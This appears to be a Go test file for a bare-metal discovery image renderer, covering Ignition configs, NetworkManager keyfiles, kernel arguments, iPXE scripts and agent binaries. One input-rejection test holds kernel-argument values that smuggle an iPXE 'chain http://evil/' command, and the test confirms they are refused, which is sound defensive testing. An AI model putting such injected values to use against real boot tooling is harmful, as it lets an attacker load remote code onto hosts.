package discovery

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/coreos/ignition/v2/config/v3_4"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	v1beta1 "github.com/agentboot/agentboot/api/agentinstall/v1beta1"
	"github.com/agentboot/agentboot/internal/agentwire"
	"github.com/agentboot/agentboot/internal/liveiso"
	"github.com/agentboot/agentboot/internal/osimage"
	"github.com/agentboot/agentboot/internal/signing"
	"github.com/agentboot/agentboot/test/testenv"
)

var imageKey = osimage.Key{Arch: "x86_64", Version: "dev-1"}

var settings = Settings{
	AgentAPIURL:         "https://198.18.0.1:7443",
	ImageServiceURL:     "https://198.18.0.1:8443",
	ImageServiceHTTPURL: "http://198.18.0.1:8080",
	CABundle:            "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
	Agents: map[string]AgentBinary{
		"x86_64":  {SHA256: strings.Repeat("a", 64), SHA512: strings.Repeat("b", 128)},
		"aarch64": {SHA256: strings.Repeat("c", 64), SHA512: strings.Repeat("d", 128)},
	},
}

func devImage(t *testing.T) *osimage.Image {
	t.Helper()
	p, err := testenv.DevImage()
	require.NoError(t, err)
	f, err := os.Open(p)
	require.NoError(t, err)
	t.Cleanup(func() { f.Close() })
	st, err := f.Stat()
	require.NoError(t, err)
	l, err := liveiso.Inspect(f, st.Size())
	require.NoError(t, err)
	return &osimage.Image{ID: "0123456789abcdef", Layout: l}
}

func key(t *testing.T) signing.Key {
	k, err := signing.NewKey([]byte("0123456789abcdef0123456789abcdef"))
	require.NoError(t, err)
	return k
}

func infraEnv() *v1beta1.InfraEnv {
	return &v1beta1.InfraEnv{
		ObjectMeta: metav1.ObjectMeta{Namespace: "hardware-inventory", Name: "hardware-inventory", UID: "7f9c1a2e-0000-4000-8000-000000000001"},
		Spec: v1beta1.InfraEnvSpec{
			PullSecretRef:    &corev1.LocalObjectReference{Name: "pull-secret"},
			SSHAuthorizedKey: "ssh-ed25519 AAAAC3Nza me@laptop",
			CPUArchitecture:  "x86_64",
		},
	}
}

func render(t *testing.T, ie *v1beta1.InfraEnv, nm ...v1beta1.NMStateConfig) *Output {
	t.Helper()
	out, err := Render(Input{InfraEnv: ie, NMStateConfigs: nm, Image: devImage(t), ImageKey: imageKey, Key: key(t)}, settings)
	require.NoError(t, err)
	return out
}

func decodeData(t *testing.T, src *string) []byte {
	t.Helper()
	require.NotNil(t, src)
	b64, ok := strings.CutPrefix(*src, "data:;base64,")
	require.True(t, ok, *src)
	b, err := base64.StdEncoding.DecodeString(b64)
	require.NoError(t, err)
	return b
}

func TestRenderEverything(t *testing.T) {
	ie := infraEnv()
	ie.Spec.Proxy = &v1beta1.Proxy{HTTPProxy: "http://proxy:3128", HTTPSProxy: "http://proxy:3128", NoProxy: "198.18.0.0/15,.cluster.local"}
	ie.Spec.AdditionalNTPSources = []string{"ntp1.example", "198.18.0.5"}
	ie.Spec.AdditionalTrustBundle = "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----"
	ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Operation: "append", Value: "agentboot.debug=1"}, {Operation: "replace", Value: "console=ttyS1,9600"}}
	ie.Spec.IgnitionConfigOverride = `{"ignition":{"version":"3.4.0"},"storage":{"files":[{"path":"/etc/motd","contents":{"source":"data:,hello"}}]}}`
	nm := v1beta1.NMStateConfig{
		ObjectMeta: metav1.ObjectMeta{Name: "host-a"},
		Spec: v1beta1.NMStateConfigSpec{
			Interfaces: []*v1beta1.Interface{{Name: "eth0", MacAddress: "52:54:00:AA:BB:CC"}},
			NetConfig:  runtime.RawExtension{Raw: []byte(`{"interfaces":[{"name":"eth0","type":"ethernet","state":"up","ipv4":{"enabled":true,"address":[{"ip":"198.18.1.10","prefix-length":24}]}}]}`)},
		},
	}
	out := render(t, ie, nm)

	// The override's newer spec version wins; Ignition itself validates.
	cfg, rpt, err := v3_4.Parse(out.Ignition)
	require.NoError(t, err, rpt.String())
	require.Equal(t, "3.4.0", cfg.Ignition.Version)
	files := map[string]int{}
	for i, f := range cfg.Storage.Files {
		files[f.Path] = i
	}
	for _, p := range []string{AgentBinaryPath, agentwire.ConfigPath, TrustBundlePath, ProxyEnvironmentPath, StaticNetworksPath, "/etc/motd"} {
		require.Contains(t, files, p)
	}
	agent := cfg.Storage.Files[files[AgentBinaryPath]]
	require.Equal(t, "https://198.18.0.1:8443/agent/"+strings.Repeat("a", 64), *agent.Contents.Source)
	require.Equal(t, "sha512-"+strings.Repeat("b", 128), *agent.Contents.Verification.Hash)
	require.Equal(t, 0o755, *agent.Mode)

	var ac agentwire.Config
	require.NoError(t, json.Unmarshal(decodeData(t, cfg.Storage.Files[files[agentwire.ConfigPath]].Contents.Source), &ac))
	require.Equal(t, settings.AgentAPIURL, ac.APIURL)
	require.Equal(t, agentwire.InfraEnvRef{Namespace: ie.Namespace, Name: ie.Name, UID: string(ie.UID)}, ac.InfraEnv)
	require.True(t, key(t).Verify(ac.RegistrationToken, signing.PurposeRegister, string(ie.UID), ""))
	require.Equal(t, settings.CABundle, ac.CABundle)
	require.Equal(t, []string{"ntp1.example", "198.18.0.5"}, ac.NTPSources)
	require.Equal(t, "198.18.0.0/15,.cluster.local", ac.Proxy.NoProxy)
	require.Equal(t, 0o600, *cfg.Storage.Files[files[agentwire.ConfigPath]].Mode)

	var nets []agentwire.StaticNetwork
	require.NoError(t, json.Unmarshal(decodeData(t, cfg.Storage.Files[files[StaticNetworksPath]].Contents.Source), &nets))
	require.Equal(t, "52:54:00:aa:bb:cc", nets[0].Interfaces[0].MACAddress)
	require.Equal(t, "host-a", nets[0].Name)
	// The same config as a NetworkManager keyfile in the initramfs, for
	// the network Ignition's own fetches need (the kernel unpacks the
	// archive: cpio reads it here).
	dir := t.TempDir()
	unpack := exec.Command("sh", "-c", "xz -dc | cpio -idmu --quiet --no-absolute-filenames")
	unpack.Dir, unpack.Stdin = dir, bytes.NewReader(out.Archive)
	o, err := unpack.CombinedOutput()
	require.NoError(t, err, string(o))
	kf, err := os.ReadFile(filepath.Join(dir, "etc/coreos-firstboot-network/host-a_eth0.nmconnection"))
	require.NoError(t, err)
	require.Contains(t, string(kf), "[ethernet]\nmac-address=52:54:00:AA:BB:CC\n")
	require.Contains(t, string(kf), "[ipv4]\nmethod=manual\naddress1=198.18.1.10/24\n")
	fallback, err := os.ReadFile(filepath.Join(dir, "etc/coreos-firstboot-network/agentboot-dhcp.nmconnection"))
	require.NoError(t, err, "DHCP for every NIC no config binds: CoreOS drops its own once keyfiles exist")
	require.Contains(t, string(fallback), "[ipv4]\nmethod=auto\n")
	ign, err := os.ReadFile(filepath.Join(dir, "config.ign"))
	require.NoError(t, err)
	require.Equal(t, out.Ignition, ign)
	require.Empty(t, out.Notes)

	require.Equal(t, "core", cfg.Passwd.Users[0].Name)
	require.Equal(t, "ssh-ed25519 AAAAC3Nza me@laptop", string(cfg.Passwd.Users[0].SSHAuthorizedKeys[0]))
	require.Equal(t, "http://proxy:3128", *cfg.Ignition.Proxy.HTTPSProxy)
	require.Len(t, cfg.Ignition.Security.TLS.CertificateAuthorities, 1)
	units := map[string]bool{}
	for _, u := range cfg.Systemd.Units {
		units[u.Name] = *u.Enabled
		if u.Name == AgentUnit {
			require.Contains(t, *u.Contents, "ExecStart=/usr/local/bin/agent run --config /etc/agentboot/agent.json")
		}
	}
	require.Equal(t, map[string]bool{AgentUnit: true, StaticNetworkUnit: true}, units)

	// Kernel arguments of each flavour.
	require.Contains(t, out.FullKargs, "coreos.liveiso=agentboot-dev-")
	require.Contains(t, out.FullKargs, "agentboot.debug=1")
	require.Contains(t, out.FullKargs, "console=ttyS1,9600")
	require.NotContains(t, out.FullKargs, "console=ttyS0", "replace changed it")
	require.NotContains(t, out.MinimalKargs, "coreos.liveiso")
	require.Contains(t, out.MinimalKargs, "coreos.live.rootfs_url="+out.URLs.Rootfs)
	require.True(t, strings.HasPrefix(out.PXEKargs, "initrd=initrd coreos.live.rootfs_url=http://198.18.0.1:8080/boot-artifacts/x86_64/dev-1/rootfs.img "), out.PXEKargs)
	require.Equal(t, "http://198.18.0.1:8080/boot-artifacts/x86_64/dev-1/vmlinuz", out.URLs.Kernel)
	require.NotContains(t, out.PXEKargs, "coreos.liveiso")
	require.Contains(t, out.PXEKargs, "ignition.firstboot ignition.platform.id=metal")
	require.Contains(t, out.PXEKargs, "agentboot.debug=1")

	script := out.IPXEScript()
	lines := strings.Split(strings.TrimSpace(script), "\n")
	require.Equal(t, []string{"#!ipxe", "initrd --name initrd " + out.URLs.Initrd, "kernel " + out.URLs.Kernel + " " + out.PXEKargs, "boot"}, lines)
	require.True(t, strings.HasPrefix(out.URLs.Initrd, "http://"))
	require.True(t, strings.HasPrefix(out.URLs.ISO, "https://"))
	require.True(t, strings.HasPrefix(out.URLs.Ignition, "https://"))
	require.True(t, key(t).Verify(strings.SplitN(out.URLs.ISO, "token=", 2)[1], signing.PurposeImage, string(ie.UID), out.Version))
	require.Equal(t, "#!ipxe\nchain "+out.URLs.IPXE+"&mac=${net0/mac}\n", out.IPXEChainScript())
}

// The upstream validator accepts the discovery Ignition.
func TestUpstreamValidatorAccepts(t *testing.T) {
	validate, err := testenv.Tool("ignition-validate")
	require.NoError(t, err)
	ie := infraEnv()
	for name, override := range map[string]string{
		"base":         "",
		"3.1 override": `{"ignition":{"version":"3.1.0"},"systemd":{"units":[{"name":"x.service","enabled":true,"contents":"[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n"}]}}`,
		"3.5 override": `{"ignition":{"version":"3.5.0"},"storage":{"files":[{"path":"/etc/x","contents":{"source":"data:,x"}}]}}`,
	} {
		t.Run(name, func(t *testing.T) {
			ie.Spec.IgnitionConfigOverride = override
			out := render(t, ie)
			cmd := exec.Command(validate, "-")
			cmd.Stdin = bytes.NewReader(out.Ignition)
			o, err := cmd.CombinedOutput()
			require.NoError(t, err, string(o))
			require.Empty(t, strings.TrimSpace(string(o)), "no warnings either")
		})
	}
}

func TestVersionFollowsContent(t *testing.T) {
	a := render(t, infraEnv())
	b := render(t, infraEnv())
	require.Equal(t, a.Version, b.Version, "deterministic")
	require.Equal(t, a.Ignition, b.Ignition)
	require.Equal(t, a.Archive, b.Archive)

	ie := infraEnv()
	ie.Labels = map[string]string{"unrelated": "change"}
	require.Equal(t, a.Version, render(t, ie).Version)

	for name, change := range map[string]func(*v1beta1.InfraEnv){
		"ssh key":   func(ie *v1beta1.InfraEnv) { ie.Spec.SSHAuthorizedKey = "ssh-ed25519 BBBB other" },
		"kargs":     func(ie *v1beta1.InfraEnv) { ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: "x=1"}} },
		"imageType": func(ie *v1beta1.InfraEnv) { ie.Spec.ImageType = v1beta1.ImageTypeMinimalISO },
		"recreated": func(ie *v1beta1.InfraEnv) { ie.UID = "7f9c1a2e-0000-4000-8000-000000000002" },
		"ipxe type": func(ie *v1beta1.InfraEnv) { ie.Spec.IPXEScriptType = v1beta1.BootOrderControl },
	} {
		ie := infraEnv()
		change(ie)
		require.NotEqual(t, a.Version, render(t, ie).Version, name)
	}
}

func TestRenderRejectsBadInput(t *testing.T) {
	big := make([]byte, 300<<10)
	_, _ = rand.Read(big)
	bigOverride := fmt.Sprintf(`{"ignition":{"version":"3.2.0"},"storage":{"files":[{"path":"/big","contents":{"source":"data:;base64,%s"}}]}}`, base64.StdEncoding.EncodeToString(big))
	cases := map[string]struct {
		change func(*v1beta1.InfraEnv)
		want   string
	}{
		"override not JSON": {func(ie *v1beta1.InfraEnv) { ie.Spec.IgnitionConfigOverride = "{" }, "not valid JSON"},
		"override spec 2":   {func(ie *v1beta1.InfraEnv) { ie.Spec.IgnitionConfigOverride = `{"ignition":{"version":"2.2.0"}}` }, "not supported"},
		"override experimental": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.IgnitionConfigOverride = `{"ignition":{"version":"3.6.0-experimental"}}`
		}, "experimental"},
		"override invalid": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.IgnitionConfigOverride = `{"ignition":{"version":"3.2.0"},"storage":{"files":[{"path":"relative"}]}}`
		}, "path not absolute"},
		"override unknown field": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.IgnitionConfigOverride = `{"ignition":{"version":"3.2.0"},"storage":{"filez":[]}}`
		}, "unused key filez"},
		"too big for embed area": {func(ie *v1beta1.InfraEnv) { ie.Spec.IgnitionConfigOverride = bigOverride }, "its largest parts: ignitionConfigOverride (401 KiB)"},
		"karg with newline": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: "a\nchain http://x"}}
		}, "not a single kernel argument"},
		"karg with space": {func(ie *v1beta1.InfraEnv) { ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: "a b"}} }, "not a single kernel argument"},
		"karg with a quoted iPXE ;": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: `x="a ; chain http://evil/"`}}
		}, "not a single kernel argument"},
		"karg with a quoted iPXE ||": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: `x="a || chain http://evil/"`}}
		}, "not a single kernel argument"},
		"karg expanding an iPXE setting": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: `x=${filename}`}}
		}, "not a single kernel argument"},
		"karg too long for area": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Value: "x=" + strings.Repeat("y", 1100)}}
		}, "do not fit"},
		"unknown karg operation": {func(ie *v1beta1.InfraEnv) {
			ie.Spec.KernelArguments = []v1beta1.KernelArgument{{Operation: "prepend", Value: "a"}}
		}, "want append, replace or delete"},
		"nmstate config not dict": {nil, "config is not an object"},
	}
	// A config the keyfiles cannot carry is the InfraEnv's error, naming it.
	wrong := v1beta1.NMStateConfig{ObjectMeta: metav1.ObjectMeta{Name: "host-w"}, Spec: v1beta1.NMStateConfigSpec{
		Interfaces: []*v1beta1.Interface{{Name: "eth0", MacAddress: "52:54:00:aa:bb:cc"}},
		NetConfig: runtime.RawExtension{Raw: []byte(`{"interfaces":[{"name":"eth0","type":"ethernet","ipv4":{"enabled":true,"address":[{"ip":"198.18.1.10","prefix-length":24}]}}],` +
			`"routes":{"config":[{"destination":"0.0.0.0/0","next-hop-address":"198.18.2.1","next-hop-interface":"eth0"}]}}`)}}}
	_, err := Render(Input{InfraEnv: infraEnv(), NMStateConfigs: []v1beta1.NMStateConfig{wrong}, Image: devImage(t), ImageKey: imageKey, Key: key(t)}, settings)
	var inputErr *InputError
	require.True(t, errors.As(err, &inputErr), "%v is an input error", err)
	require.ErrorContains(t, err, "NMStateConfig host-w: routes.config[0]: next hop 198.18.2.1 is on none of eth0's networks (198.18.1.10/24)")
	// One beyond the conversion is applied after boot only, and noted.
	bond := v1beta1.NMStateConfig{ObjectMeta: metav1.ObjectMeta{Name: "host-b"}, Spec: v1beta1.NMStateConfigSpec{
		NetConfig: runtime.RawExtension{Raw: []byte(`{"interfaces":[{"name":"bond0","type":"bond","link-aggregation":{"mode":"active-backup","port":["eth0"]}}]}`)}}}
	out := render(t, infraEnv(), bond)
	require.Equal(t, []string{`NMStateConfig host-b applies after boot only (interface "bond0" has type "bond"; agentboot converts ethernet and vlan): its hosts need DHCP to fetch the agent`}, out.Notes)
	require.Empty(t, out.Network, "no keyfile, and so no fallback either: CoreOS keeps its own DHCP")
	// Two configs for one MAC: the second is left out, and noted.
	a := v1beta1.NMStateConfig{ObjectMeta: metav1.ObjectMeta{Name: "host-a"}, Spec: v1beta1.NMStateConfigSpec{
		Interfaces: []*v1beta1.Interface{{Name: "eth0", MacAddress: "52:54:00:aa:bb:cc"}},
		NetConfig:  runtime.RawExtension{Raw: []byte(`{"interfaces":[{"name":"eth0","type":"ethernet","ipv4":{"enabled":true,"dhcp":true}}]}`)}}}
	b := *a.DeepCopy()
	b.Name = "host-b"
	b.Spec.Interfaces[0].MacAddress = "52:54:00:AA:BB:CC"
	out = render(t, infraEnv(), b, a)
	require.Equal(t, []string{"NMStateConfig host-b is left out of the initramfs: MAC 52:54:00:aa:bb:cc is already NMStateConfig host-a's"}, out.Notes)
	require.Len(t, out.Network, 2, "host-a's profile and the fallback")
	// A network kernel argument next to keyfiles: noted.
	withIP := infraEnv()
	withIP.Spec.KernelArguments = []v1beta1.KernelArgument{{Operation: "append", Value: "ip=198.18.1.10::198.18.1.1:255.255.255.0::eth0:none"}}
	out = render(t, withIP, a)
	require.Equal(t, []string{`kernel argument "ip=198.18.1.10::198.18.1.1:255.255.255.0::eth0:none" is ignored before Ignition: with NMStateConfig keyfiles in the image, CoreOS's initramfs uses those instead`}, out.Notes)
	// An OS image whose live initramfs does not read the keyfiles: noted.
	old := devImage(t)
	layout := *old.Layout
	layout.InitrdNetwork = false
	old.Layout = &layout
	out, err = Render(Input{InfraEnv: infraEnv(), NMStateConfigs: []v1beta1.NMStateConfig{a}, Image: old, ImageKey: imageKey, Key: key(t)}, settings)
	require.NoError(t, err)
	require.Len(t, out.Notes, 1)
	require.Contains(t, out.Notes[0], "does not apply network keyfiles before Ignition (no live-initrd-network in coreos/features.json)")
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			ie := infraEnv()
			var nm []v1beta1.NMStateConfig
			if tc.change != nil {
				tc.change(ie)
			} else {
				nm = []v1beta1.NMStateConfig{{ObjectMeta: metav1.ObjectMeta{Name: "x"}, Spec: v1beta1.NMStateConfigSpec{NetConfig: runtime.RawExtension{Raw: []byte(`[1]`)}}}}
			}
			_, err := Render(Input{InfraEnv: ie, NMStateConfigs: nm, Image: devImage(t), ImageKey: imageKey, Key: key(t)}, settings)
			require.Error(t, err)
			var ie2 *InputError
			require.True(t, errors.As(err, &ie2), "%v is an input error", err)
			require.ErrorContains(t, err, tc.want)
		})
	}
}

func TestKernelArgumentOperations(t *testing.T) {
	got, err := kernelArguments(`a=1 b "q=x y" console=tty0 console=ttyS0`, []v1beta1.KernelArgument{
		{Operation: "delete", Value: "console"},
		{Operation: "replace", Value: "a=2"},
		{Operation: "delete", Value: "b"},
		{Operation: "append", Value: `rd.x="1 2"`},
		{Operation: "replace", Value: "new=1"},
	})
	require.NoError(t, err)
	require.Equal(t, []string{"a=2", `"q=x y"`, `rd.x="1 2"`, "new=1"}, got)
}

func TestSettingsValidate(t *testing.T) {
	require.NoError(t, settings.Validate())
	bad := settings
	bad.AgentAPIURL = "http://198.18.0.1:7443"
	require.ErrorContains(t, bad.Validate(), "agent API URL")
	bad = settings
	bad.ImageServiceHTTPURL = "https://x"
	require.ErrorContains(t, bad.Validate(), "image service HTTP URL")

	// IPv6: bracketed literals are fine; a bare one is ambiguous, and a
	// link-local one (with or without its zone) reaches no host.
	v6 := settings
	v6.AgentAPIURL, v6.ImageServiceURL, v6.ImageServiceHTTPURL = "https://[2001:2::1]:7443", "https://[2001:2::1]:8443", "http://[2001:2::1]"
	require.NoError(t, v6.Validate())
	v6.ImageServiceURL = "https://user:secret@[2001:2::1]:8443"
	require.NoError(t, v6.Validate(), "user info is no part of the host")
	for u, want := range map[string]string{
		"https://2001:2::1:8443":        `image service URL "https://2001:2::1:8443": an IPv6 address in a URL goes in brackets, as https://[2001:db8::1]:8443`,
		"https://2001:2::1":             "an IPv6 address in a URL goes in brackets",
		"https://[fe80::1%25eth0]:8443": "an address with a zone names an interface of this machine",
		"https://[2001:2::1%25eth0]":    "an address with a zone names an interface of this machine",
		"https://[fe80::1]:8443":        "a link-local address reaches no host beyond one link",
		"https://169.254.1.1:8443":      "a link-local address reaches no host beyond one link",
		"https://0.0.0.0:8443":          "0.0.0.0 is no address a host reaches this service at",
		"https://[ff02::1]:8443":        "ff02::1 is no address a host reaches this service at",
	} {
		bad = v6
		bad.ImageServiceURL = u
		require.ErrorContains(t, bad.Validate(), want, u)
	}
}

// Hosts get the agent of their InfraEnv's architecture, and an
// architecture without one is an error that names it.
func TestAgentPerArchitecture(t *testing.T) {
	agentOf := func(s Settings, arch string) (string, error) {
		ie := infraEnv()
		out, err := Render(Input{InfraEnv: ie, Image: devImage(t), ImageKey: osimage.Key{Arch: arch, Version: "dev-1"}, Key: key(t)}, s)
		if err != nil {
			return "", err
		}
		var cfg struct {
			Storage struct {
				Files []struct {
					Path     string
					Contents struct {
						Source       string
						Verification struct{ Hash string }
					}
				}
			}
		}
		require.NoError(t, json.Unmarshal(out.Ignition, &cfg))
		for _, f := range cfg.Storage.Files {
			if f.Path == AgentBinaryPath {
				return f.Contents.Source + " " + f.Contents.Verification.Hash, nil
			}
		}
		return "", nil
	}
	got, err := agentOf(settings, "aarch64")
	require.NoError(t, err)
	require.Equal(t, "https://198.18.0.1:8443/agent/"+strings.Repeat("c", 64)+" sha512-"+strings.Repeat("d", 128), got)
	got, err = agentOf(settings, "arm64")
	require.NoError(t, err)
	require.Contains(t, got, strings.Repeat("c", 64), "arm64 is aarch64")

	x86only := settings
	x86only.Agents = map[string]AgentBinary{"x86_64": settings.Agents["x86_64"]}
	_, err = agentOf(x86only, "aarch64")
	var none *NoAgentError
	require.ErrorAs(t, err, &none)
	require.EqualError(t, err, "no agent binary for aarch64 hosts (this agentboot has one for: x86_64); build it with make build and give it to the manager and the image service with --agent-binary-arm64")
}

// A binary for another architecture, or not a binary, is never taken.
func TestAgentBinaryFor(t *testing.T) {
	self, err := os.Executable()
	require.NoError(t, err)
	a, err := AgentBinaryFor(self, "x86_64")
	require.NoError(t, err)
	require.Len(t, a.SHA256, 64)
	require.Len(t, a.SHA512, 128)
	_, err = AgentBinaryFor(self, "aarch64")
	require.ErrorContains(t, err, "is built for EM_X86_64 (ELFCLASS64), not aarch64")
	_, err = AgentBinaryFor(self, "riscv64")
	require.ErrorContains(t, err, `unknown architecture "riscv64"`)
	script := filepath.Join(t.TempDir(), "agent")
	require.NoError(t, os.WriteFile(script, []byte("#!/bin/sh\n"), 0o755))
	_, err = AgentBinaryFor(script, "x86_64")
	require.Error(t, err)

	bad := settings
	bad.Agents = map[string]AgentBinary{"riscv64": settings.Agents["x86_64"]}
	require.ErrorContains(t, bad.Validate(), `unknown architecture "riscv64"`)
	bad.Agents = nil
	require.EqualError(t, bad.Validate(), "no agent binary")
}
